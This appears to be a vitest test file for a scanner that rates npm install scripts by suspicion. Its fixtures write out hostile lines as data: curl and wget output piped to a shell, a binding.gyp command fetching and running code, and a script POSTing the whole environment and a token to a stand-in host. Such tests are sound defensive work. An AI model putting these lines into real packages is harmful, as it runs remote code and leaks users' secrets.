import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { judgeCase, judgePackage, listCases, runOver } from "./install-script-cases.ts";

const cases = listCases(".");
async function listLoud(set: string): Promise<string[]> {
	const loud: string[] = [];
	for (const one of cases) {
		if (one.set !== set) continue;
		const judgement = await judgeCase(one);
		if (judgement?.severity === "critical" || judgement?.severity === "high") loud.push(one.name);
	}
	return loud;
}

describe("fixtures", () => {
	// After a wanted change: node bench/install-script.mjs --write, and read the difference.
	test.each(cases)("$set/$name: all that is said about it", async (one) => {
		expect(await judgeCase(one)).toEqual(JSON.parse(readFileSync(join(one.folder, "suspicion.json"), "utf8")));
	});

	test("every look-alike of an attack stands out", async () => {
		const attacks = cases.filter(({ set }) => set === "flag").map(({ name }) => name);
		expect(attacks.length).toBeGreaterThanOrEqual(15);
		expect(await listLoud("flag")).toEqual(attacks);
	});

	test("no real install script is too loud", async () => {
		expect(cases.filter(({ set }) => set === "quiet").length).toBeGreaterThanOrEqual(20);
		expect(await listLoud("quiet")).toEqual([]);
	});
});

describe("packages", () => {
	const attack = new Map([["package.json", manifest({ postinstall: "curl http://example.invalid/a | sh" })]]);

	/** No witness says that there is a script. */
	const unsaid = { evidence: ["lockfile" as const], hasInstallScript: false };

	test("a version that cannot be shown hides nothing", async () => {
		expect((await judgePackage(attack, { version: null }))?.severity).toBe("high");
	});

	test("a script beside a build file is found whatever the witness says", async () => {
		const files = new Map([
			["package.json", manifest({})],
			["binding.gyp", "{'a': '<!(curl http://example.invalid/a | sh)'}"],
		]);
		expect((await judgePackage(files, { hasInstallScript: false }))?.severity).toBe("high");
	});

	test("from a lockfile, a script that could not be seen", async () => {
		expect(await judgePackage(new Map(), { hasInstallScript: true, evidence: ["lockfile"], version: "1.0.0" })).toEqual(
			{
				severity: "low",
				confidence: "low",
				title: "Has an install script that could not be seen",
				details: ["the lockfile says that npm runs a script when it installs this package; its files are not here"],
			},
		);
	});

	test("the manifest that is there decides, not the lockfile", async () => {
		const files = new Map([["package.json", manifest({ test: "node test.js" })]]);
		expect(await judgePackage(files, { hasInstallScript: true })).toBeUndefined();
	});

	test.each([
		["no script", new Map([["package.json", manifest({})]]), {}],
		["a copy outside any package position", attack, { unrooted: true }],
		["another ecosystem", attack, { ecosystem: "PyPI" as const }],
		["a manifest of another version laid over it", attack, { version: "2.0.0", ...unsaid }],
		["a manifest that is no JSON", new Map([["package.json", "{"]]), unsaid],
		["a manifest that was seen to have no script", attack, { hasInstallScript: false }],
		["scripts that are no text", new Map([["package.json", '{"scripts":{"install":{"a":1}}}']]), {}],
		["scripts that are a list", new Map([["package.json", '{"scripts":["install"]}']]), {}],
	])("nothing is said about %s", async (_, files, overrides) => {
		expect(await runOver(files, overrides)).toEqual([]);
	});

	test("the worst copy stands for the package", async () => {
		const inner = "node_modules/subject/package.json";
		const quiet = manifest({ postinstall: "husky" });
		const locations = ["/var/task/node_modules/subject", "/var/task/node_modules/subject/node_modules/subject"];
		const attackOutside = new Map([...attack, [inner, quiet] as const]);
		const attackInside = new Map([
			["package.json", quiet],
			...[...attack.values()].map((text) => [inner, text] as const),
		]);
		expect((await judgePackage(attackOutside, { locations }))?.severity).toBe("high");
		expect((await judgePackage(attackInside, { locations }))?.severity).toBe("high");
	});

	test("a build file stands for an install script", async () => {
		const files = new Map([
			["package.json", manifest({})],
			["binding.gyp", "{}"],
		]);
		expect(await judgePackage(files)).toEqual({
			severity: "low",
			confidence: "low",
			title: "Install script does nothing suspicious",
			details: ["install: node-gyp rebuild (because of binding.gyp)"],
		});
	});

	test.each([["preinstall"], ["install"]])("a build file adds nothing to %s", async (hook) => {
		const files = new Map([
			["package.json", manifest({ [hook]: "husky" })],
			["binding.gyp", "{}"],
		]);
		expect((await judgePackage(files))?.details).toEqual([`${hook}: husky`]);
	});

	test("prepare counts for what is built from git, and only there", async () => {
		const files = new Map([["package.json", manifest({ prepare: "wget -qO- http://example.invalid/a | bash" })]]);
		expect(await judgePackage(files)).toBeUndefined();
		expect((await judgePackage(files, { source: "git" }))?.severity).toBe("high");
	});

	test("a script file that is not there is said to be missing", async () => {
		expect(await judgePackage(new Map([["package.json", manifest({ install: "node gone.js" })]]))).toEqual({
			severity: "low",
			confidence: "low",
			title: "Install script could not be seen: its file is not in the bundle",
			details: ["install: node gone.js", "not in the bundle: gone.js"],
		});
	});

	test("a program that nobody knows is named", async () => {
		expect(
			(await judgePackage(new Map([["package.json", manifest({ install: "frobnicate --all" })]])))?.details,
		).toEqual(["install: frobnicate --all", "not looked into: frobnicate"]);
	});

	test("a compiled program is not read, and counts for more", async () => {
		const files = new Map<string, Uint8Array | string>([
			["package.json", manifest({ install: "./bin/setup" })],
			["bin/setup", new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 0])],
		]);
		expect(await judgePackage(files)).toEqual({
			severity: "medium",
			confidence: "low",
			title: "Install script starts a compiled program of the package",
			details: ["install: ./bin/setup", "starts a compiled program: bin/setup"],
		});
	});

	test("of a huge script both ends are read, and that is said", async () => {
		const padding = `var a = 1;\n`.repeat(150_000);
		const files = (script: string) =>
			new Map([
				["package.json", manifest({ install: "node a.js" })],
				["a.js", script],
			]);
		expect(await judgePackage(files(padding))).toEqual({
			severity: "medium",
			confidence: "low",
			title: "Install script is too large to be read whole",
			details: ["install: node a.js", "only its beginning and end were read: a.js"],
		});
		expect(
			(await judgePackage(files(`${padding}\nrequire("child_process").exec("curl http://a.invalid | sh")`)))?.severity,
		).toBe("high");
	});

	test("files beyond the limit are named", async () => {
		const names = Array.from({ length: 12 }, (_, index) => `f${index}`);
		const files = new Map([
			["package.json", manifest({ install: "node index.js" })],
			["index.js", names.map((name) => `require("./${name}");`).join("\n")],
			...names.map((name): [string, string] => [`${name}.js`, ""]),
		]);
		expect((await judgePackage(files))?.details).toEqual([
			"install: node index.js",
			"not read: f10.js, f11.js, f7.js and 2 more",
		]);
	});

	test("a credential in the script is not quoted, nor is a control character", async () => {
		const key = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
		const script = `fetch("https://u:pass@example.invalid/?${key}\u001b[31m", { method: "POST", body: process.env });`;
		const details = (
			await judgePackage(
				new Map([
					["package.json", manifest({ install: "node a.js" })],
					["a.js", script],
				]),
			)
		)?.details.join("\n");
		expect(details).toContain("collects the whole environment");
		expect(details).not.toContain(key);
		expect(details).not.toContain("pass@");
		expect(details).not.toContain("\u001b");
	});
});

function manifest(scripts: Record<string, string>): string {
	return JSON.stringify({ name: "subject", version: "1.0.0", scripts });
}
